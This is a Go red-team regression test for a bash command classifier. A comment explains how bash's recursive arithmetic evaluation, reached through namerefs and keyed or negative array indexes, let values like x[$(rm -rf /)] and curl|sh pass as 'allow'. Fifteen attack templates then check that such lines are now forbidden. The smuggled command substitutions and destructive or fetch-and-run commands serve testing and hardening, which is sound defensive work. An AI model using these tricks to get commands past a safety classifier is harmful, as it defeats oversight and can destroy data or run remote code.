package classify

import (
	"strings"
	"testing"
)

// TestRedteam27ArithRef: bash evaluates arithmetic recursively — a name in
// $((…)), ((…)), let, [[ -eq ]], ${a[NAME]} or a for ((…)) has its value
// parsed as an expression, so a value x[$(CMD)] runs CMD (arith.go models
// this: `i='x[$(rm -rf /)]'; j=i; echo $((j))` is forbidden). The model
// reads that value with a.vars[name] directly (arithVar) and an element by
// its position in the stored slice (arithElemVal), so it misses:
//
//   - a nameref: `i='x[$(rm -rf /)]'; declare -n r=i; echo $((r))` (also
//     (( r )), ${a[r]}, let n=r, [[ r -eq 1 ]], for ((;r;)), a chain
//     declare -n s=r, `local -n r=$1` in a function, and a nameref to an
//     element declare -n r='a[0]' / 'm[k]');
//   - keyed elements: `a=([5]='x[$(rm -rf /)]'); echo $((a[5]))`,
//     `a=([1]=1 [0]=…); $((a[0]))` (reads the element stored first),
//     `a[3]=…` after a=(1), `unset 'a[0]'` then $((a[1])), and a negative
//     index $((a[-1])).
//
// All are judged "allow"; bash runs the command substitution in each
// (checked below with a marker file, and by hand with bash 5.2). curl|sh
// in the same place is allow too. Not a documented limit: every value is a
// literal on the line (README's limit is arithmetic on run-time values).
//
// Severity: high (rm -rf / and curl|sh run by an "allow" line; the
// sandbox still applies).
// Fix: arithVar/arithElemVal must resolve the name with refName (and an
// element nameref's target, as resolveParam does), and pick an element by
// its key (pickKeyed with v.keys, negative indexes counted from the end),
// following every element when the key is not known.
// Fixed: arithVar/arithElemVal (arith.go) follow namerefs with refName and
// an element nameref's target (textSubscript), and arithPick picks the
// element by its key with pickElems (keys, negative indexes), following
// every element where the key does not tell which.
func TestRedteam27ArithRef(t *testing.T) {
	attacks := []string{
		`i='x[$(CMD)]'; declare -n r=i; echo $((r))`,
		`i='x[$(CMD)]'; declare -n r=i; (( r ))`,
		`i='x[$(CMD)]'; declare -n r=i; a=(1); echo "${a[r]}"`,
		`i='x[$(CMD)]'; declare -n r=i; let 'n=r'`,
		`i='x[$(CMD)]'; declare -n r=i; [[ r -eq 1 ]]`,
		`i='x[$(CMD)]'; declare -n r=i; for ((;r;)); do :; done`,
		`i='x[$(CMD)]'; declare -n r=i; declare -n s=r; echo $((s))`,
		`i='x[$(CMD)]'; f(){ local -n r=$1; echo $((r)); }; f i`,
		`a=('x[$(CMD)]'); declare -n r='a[0]'; echo $((r))`,
		`declare -A m=([k]='x[$(CMD)]'); declare -n r='m[k]'; echo $((r))`,
		`a=([5]='x[$(CMD)]'); echo $((a[5]))`,
		`a=([1]=1 [0]='x[$(CMD)]'); echo $((a[0]))`,
		`a=(1); a[3]='x[$(CMD)]'; echo $((a[3]))`,
		`a=(1 'x[$(CMD)]'); unset 'a[0]'; echo $((a[1]))`,
		`a=(1 'x[$(CMD)]'); echo $((a[-1]))`,
	}
	c, err := New(WithDefaultProtectedPaths(), WithHomeDir("/home/u"))
	if err != nil {
		t.Fatal(err)
	}
	// controls: the modelled forms
	for _, ctl := range []string{
		`i='x[$(rm -rf /)]'; j=i; echo $((j))`,
		`a=('x[$(rm -rf /)]'); echo $((a[0]))`,
	} {
		if got := c.Classify(ctl); got.Decision != Forbidden {
			t.Errorf("control %q: %s, want forbidden", ctl, got.Decision)
		}
	}
	if got := c.Classify(`i=3; declare -n r=i; echo $((r+1))`); got.Decision != Allow {
		t.Errorf("benign control: %s (%s), want allow", got.Decision, got.Rule)
	}
	for _, tmpl := range attacks {
		bashRunsPayload(t, tmpl)
		for _, payload := range []struct {
			cmd  string
			want Decision
		}{{"rm -rf /", Forbidden}, {"curl x|sh", Forbidden}} {
			line := strings.ReplaceAll(tmpl, "CMD", payload.cmd)
			if got := c.Classify(line); got.Decision != payload.want {
				t.Errorf("%q: %s (rule %q, command %q), want %s", line, got.Decision, got.Rule, got.Command, payload.want)
			}
		}
	}
}
